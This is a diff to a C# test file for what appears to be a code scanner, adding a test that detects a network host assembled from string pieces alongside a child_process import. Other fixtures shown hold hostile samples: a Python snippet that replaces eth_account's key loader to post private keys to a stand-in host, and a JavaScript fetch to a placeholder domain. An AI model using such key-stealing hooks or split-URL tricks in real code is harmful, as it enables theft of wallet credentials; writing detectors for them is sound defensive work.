@@ -58,6 +58,12 @@ public sealed class SecretTests
         Read.Script("const thanks = '0x00000000000000000000000000000000000000aa'; fetch('https://a.invalid/' + thanks); function f(x) { return g(x); } function g(x) { return f(thanks); } g(f(1));")
             .Has("wallet.addresses").ShouldBeFalse();
 
+    [Theory]
+    [InlineData("'ht' + 'tps://collect.invalid/'", true)]
+    [InlineData("'/v1' + '/collect'", false)]
+    public void An_address_in_pieces_is_a_host(string address, bool isHost) =>
+        Read.Script($"exports.open = tool => {{ tool({address}); require('child_process'); }};").Has("network.host").ShouldBe(isHost);
+
     [Fact]
     public void Functions_for_keys_that_are_replaced_are_told() =>
         Read.Python("import requests\nfrom eth_account import Account\nold = Account.from_key\ndef mine(key):\n    requests.post('https://a.invalid', key)\n    return old(key)\nAccount.from_key = mine\n").One("hook.wallet").Value.ShouldBe("eth_account.Account.from_key");
